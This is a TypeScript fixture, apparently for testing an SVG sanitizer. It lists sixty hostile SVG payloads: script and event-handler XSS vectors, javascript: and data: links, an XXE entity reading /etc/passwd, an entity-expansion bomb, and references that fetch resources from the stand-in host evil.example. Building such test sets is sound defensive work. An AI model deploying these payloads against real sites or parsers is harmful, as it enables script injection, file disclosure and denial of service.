/**
 * Vector graphics that would call `alert` if a browser let them, when opened by themselves, shown or embedded: sixty ways
 * to bring script, style or another file along. Kinds from the public collections on SVG (OWASP, PortSwigger, cure53).
 */

const ns = 'xmlns="http://www.w3.org/2000/svg"'
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inner: string, attributes = ''): string =>
  `<svg ${ns} ${xlink} width="20" height="20" ${attributes}>${inner}</svg>`
const code = 'alert(1)'
const encoded = Buffer.from(svg(`<script>${code}</script>`)).toString('base64')

export const hostileSvgs: readonly string[] = [
  // Script elements.
  svg(`<script>${code}</script>`),
  svg(`<SCRIPT>${code}</SCRIPT>`),
  svg(`<script type="text/javascript"><![CDATA[${code}]]></script>`),
  svg(`<script href="data:text/javascript,${code}"/>`),
  svg(`<script xlink:href="data:text/javascript,${code}"/>`),
  svg(`<script type="module">${code}</script>`),
  svg(`<svg:script xmlns:svg="http://www.w3.org/2000/svg">${code}</svg:script>`),
  svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${code}</x:script>`),
  svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${code}</h:script>`),
  svg(`<g><g><defs><script>${code}</script></defs></g></g>`),
  svg(`<style></style><script>${code}</script>`),
  svg(`<title><script>${code}</script></title>`),
  svg(`<desc><script>${code}</script></desc>`),
  svg(`<metadata><script>${code}</script></metadata>`),
  `<!-- a --><?xml version="1.0"?>${svg(`<script>${code}</script>`)}`,
  `\ufeff${svg(`<script>${code}</script>`)}`,
  `\n\n  ${svg(`<script>${code}</script>`)}`,
  `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`,
  // Event handlers.
  svg('', `onload="${code}"`),
  svg('', `ONLOAD="${code}"`),
  svg('', `onload='${code}'`),
  svg('', `onload=${code}`),
  svg('', `onload\n=\n"${code}"`),
  svg('', `onfocus="${code}" autofocus="" tabindex="1"`),
  svg(`<g onload="${code}"/>`),
  svg(`<image href="x" onerror="${code}"/>`),
  svg(`<image xlink:href="x" onerror="${code}"/>`),
  svg(`<rect width="20" height="20" onmouseover="${code}"/>`),
  svg(`<path d="M0 0" onbegin="${code}"/>`),
  svg(`<g x:onload="${code}" xmlns:x="urn:x"/>`),
  // Animation that sets what must not be set.
  svg(`<animate onbegin="${code}" attributeName="x" dur="1s"/>`),
  svg(`<animate attributeName="href" values="javascript:${code}"/>`),
  svg(`<set attributeName="onmouseover" to="${code}"/>`),
  svg(`<set attributeName="href" to="javascript:${code}"/>`),
  svg(`<animateTransform onbegin="${code}" attributeName="transform"/>`),
  svg(`<animateMotion onbegin="${code}"/>`),
  // Links.
  svg(`<a href="javascript:${code}"><rect width="20" height="20"/></a>`),
  svg(`<a xlink:href="javascript:${code}"><text y="9">x</text></a>`),
  svg(`<a xlink:href="&#106;avascript:${code}"><text y="9">x</text></a>`),
  svg(`<use href="data:image/svg+xml;base64,${encoded}#x"/>`),
  svg(`<use xlink:href="data:image/svg+xml;base64,${encoded}#x"/>`),
  svg(`<use href="https://evil.example/x.svg#x"/>`),
  svg(`<image href="data:image/svg+xml;base64,${encoded}"/>`),
  svg(`<feImage href="data:image/svg+xml;base64,${encoded}"/>`),
  svg(`<image href="https://evil.example/track.png"/>`),
  // Other documents inside.
  svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script></body></foreignObject>`),
  svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${code}"/></foreignObject>`),
  svg(`<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${code}"/></foreignObject>`),
  svg(`<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>${code}&lt;/script>"/>`),
  svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${code}</handler>`),
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script>${svg('')}</html>`,
  `${svg('')}<script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`,
  // Entities and instructions.
  `<!DOCTYPE svg [<!ENTITY x "<script>${code}</script>">]>${svg('&x;')}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text y="9">&x;</text>')}`,
  `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg('<text>&c;</text>')}`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(`<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`)}"?>${svg('')}`,
  // Style that fetches.
  svg('<style>@import "https://evil.example/a.css";</style>'),
  svg('<style>rect{background:url(https://evil.example/a)}</style>'),
  svg('<rect style="fill:url(https://evil.example/a#b)"/>'),
  svg('<style>rect{fill:u\\72l(https://evil.example/a)}</style>'),
]
